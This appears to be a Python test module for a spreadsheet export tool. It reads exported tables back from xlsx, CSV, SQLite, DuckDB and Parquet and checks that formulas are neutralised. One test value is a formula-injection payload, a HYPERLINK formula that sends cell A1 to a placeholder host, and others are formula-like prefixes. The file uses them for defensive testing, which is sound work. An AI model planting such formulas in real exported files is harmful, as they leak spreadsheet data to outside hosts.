"""Tables that `export` writes, and what they are read back with: no code of ours, numbers as Decimal."""

import csv
import sqlite3
import zipfile
from collections.abc import Callable, Mapping
from decimal import Decimal
from pathlib import Path
from typing import Any, Final
from xml.etree import ElementTree as ET

import duckdb
import pytest

from tests.command_line import Runner, project, write
from xl_perf.core.figures.tables import GUIDE, TABLES

Rows = list[dict[str, Any]]
Tables = Mapping[str, Rows]

_XML: Final = {
    "s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
}


def of_workbook(path: Path) -> Tables:
    """Of .xlsx, from its XML: digit by digit. A formula anywhere is an error; a number is one, a text stays one."""
    found: dict[str, Rows] = {}
    with zipfile.ZipFile(path) as package:
        shared = (
            ["".join(one.itertext()) for one in ET.fromstring(package.read("xl/sharedStrings.xml"))]
            if "xl/sharedStrings.xml" in package.namelist()
            else []
        )
        for at, sheet in enumerate(ET.fromstring(package.read("xl/workbook.xml")).iterfind(".//s:sheet", _XML), 1):
            root = ET.fromstring(package.read(f"xl/worksheets/sheet{at}.xml"))
            assert not root.findall(".//s:f", _XML)
            rows = [_cells(row, shared) for row in root.iterfind(".//s:row", _XML)]
            heads = rows[0]
            made = [{name: row.get(column) for column, name in heads.items()} for row in rows[1:]]
            found.setdefault(sheet.attrib["name"].partition(" (")[0], []).extend(made)
    return found


def _cells(row: ET.Element, shared: list[str]) -> dict[str, Any]:
    """By the letters of their columns."""
    return {cell.attrib["r"].rstrip("0123456789"): _value(cell, shared) for cell in row.iterfind("s:c", _XML)}


def _value(cell: ET.Element, shared: list[str]) -> Any:
    if cell.get("t") == "inlineStr":
        return "".join(cell.itertext())
    value = cell.findtext("s:v", None, _XML)
    if value is None:
        return None
    return shared[int(value)] if cell.get("t") == "s" else Decimal(value)


def of_csv(folder: Path) -> Tables:
    """Of a folder of .csv: texts throughout, with the guard against formulas taken off."""
    found = {}
    for path in folder.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = csv.DictReader(file)
            found[path.stem] = [{name: text.removeprefix("'") or None for name, text in row.items()} for row in rows]
    return found


def of_sqlite(path: Path) -> Tables:
    """Of .sqlite: the exact texts in the place of the numbers."""
    database = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    database.row_factory = sqlite3.Row
    names = [name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
    found = {name: list(map(_exact, database.execute(f'SELECT * FROM "{name}"'))) for name in names}
    database.close()
    return found


def _exact(row: sqlite3.Row) -> dict[str, Any]:
    made = {}
    for name in row.keys():  # noqa: SIM118 (a Row is no mapping)
        if not name.endswith("_精确"):
            made[name] = row[name]
            continue
        own = name.removesuffix("_精确")
        made[own] = None if row[name] is None else Decimal(row[name])
        assert row[own] is None if row[name] is None else row[own] == float(row[name])
    return made


def of_duckdb(path: Path) -> Tables:
    """Of .duckdb."""
    with duckdb.connect(path, read_only=True) as database:
        names = [name for (name,) in database.execute("SELECT table_name FROM duckdb_tables()").fetchall()]
        return {name: _rows(database, f'SELECT * FROM "{name}"') for name in names}


def of_parquet(folder: Path) -> Tables:
    """Of a folder of .parquet."""
    with duckdb.connect() as database:
        return {path.stem: _rows(database, f"SELECT * FROM '{path}'") for path in folder.glob("*.parquet")}


def _rows(database: duckdb.DuckDBPyConnection, query: str) -> Rows:
    done = database.execute(query)
    names = [one[0] for one in done.description or ()]
    return [dict(zip(names, row, strict=True)) for row in done.fetchall()]


READERS: Final[Mapping[str, Callable[[Path], Tables]]] = {
    ".xlsx": of_workbook,
    "csv": of_csv,
    ".sqlite": of_sqlite,
    ".duckdb": of_duckdb,
    "parquet": of_parquet,
}
"""By the suffix of a file, or the format of a folder."""


def shown(tables: Tables) -> dict[str, list[dict[str, str | None]]]:
    """The same with every value as a text, to compare what differs only in how numbers are stored."""
    return {name: [{key: _shown(value) for key, value in row.items()} for row in rows] for name, rows in tables.items()}


def _shown(value: Any) -> str | None:
    if isinstance(value, Decimal):
        text = f"{value:f}"
        return (text.rstrip("0").rstrip(".") if "." in text else text) or "0"
    return None if value is None else str(value)


# --- writing them ----------------------------------------------------------------------------------------------------

FORMATS = tuple(READERS)
EACH_FORMAT = pytest.mark.parametrize("form", FORMATS)
NAMES = [table.name for table in (*TABLES, GUIDE)]
FORMULA = '=HYPERLINK("http://a.example/?"&A1,"看")'
STARTS = (FORMULA, "+1+1", "-2+3", "@SUM(1)", "＝1＋1", "'已有撇号", "——无")


def outcome(
    run: Runner, form: str, *inputs: str, out: str = "数据", more: tuple[str, ...] = ()
) -> tuple[int, str, str]:
    """Exports to a file of this suffix, or to a folder of files of this format."""
    where = ("-o", f"{out}{form}") if form.startswith(".") else ("-o", f"{out}-{form}/", "--format", form)
    return run("export", *inputs, *where, *more)


def place(form: str, out: str = "数据") -> Path:
    return Path(f"{out}{form}" if form.startswith(".") else f"{out}-{form}")


def exported(run: Runner, form: str, *inputs: str, more: tuple[str, ...] = ()) -> Tables:
    """The tables as they are read back."""
    status, _, err = outcome(run, form, *inputs, more=more)
    assert status in {0, 1}, err
    return READERS[form](place(form))


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    """甲 and 乙 with amounts of all sorts and texts like formulas, a copy of 乙's; no broken file."""
    folder = tmp_path / "收件"
    folder.mkdir()
    sums = {"budget": "33.3333333333333", "fiscal": "33.3333333333333", "percents": [0.125, 0.5, 0.3333, 1.0]}
    odd = {"budget": "0.000001", "fiscal": "", "other": "0.000001"}
    purposes = [project(f"甲{at}", purpose=start, goals=[f"{start}\n第二行"]) for at, start in enumerate(STARTS)]
    names = [project(start, code=start) for start in STARTS]
    write(folder / "甲.xlsx", project("甲一", **sums), project("甲二", **odd), *purposes, name="甲办事处")
    write(
        folder / "乙.xlsx", project("乙一", budget="123456789.123456", percents=["", "", "", ""]), *names, name="乙局"
    )
    (folder / "乙 副本.xlsx").write_bytes((folder / "乙.xlsx").read_bytes())
    (folder / "说明.txt").write_text("不是工作簿", "utf-8")
    return folder
